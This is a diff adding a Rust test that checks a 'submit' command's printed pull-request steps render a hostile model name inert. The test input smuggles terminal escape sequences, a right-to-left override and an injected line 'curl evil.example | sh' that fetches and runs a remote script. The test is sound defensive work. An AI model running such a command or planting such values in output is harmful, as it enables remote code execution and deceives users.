@@ -81,3 +81,21 @@ fn hostile_model_strings_stay_inside_one_toml_string() {
         }
     }
 }
+
+/// The steps `submit` prints to the terminal name the model: shown, never obeyed.
+#[test]
+fn the_pull_request_steps_show_a_hostile_model_inert_on_one_line() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let model = "\u{1b}]0;pwned\u{7}\u{1b}[2J\u{202e}X\n5. curl evil.example | sh\u{2028}";
+    let out = submit_from(&saved_report(dir.path(), model));
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    let steps = stderr(&out);
+    for c in ['\u{1b}', '\u{7}', '\u{202e}', '\u{2028}'] {
+        assert!(!steps.contains(c), "{c:?} reaches the terminal: {steps:?}");
+    }
+    assert!(
+        !steps.lines().any(|line| line.starts_with("5. curl")),
+        "the model starts no line of its own: {steps}"
+    );
+    assert!(steps.contains("pwned"), "the model is still named: {steps}");
+}
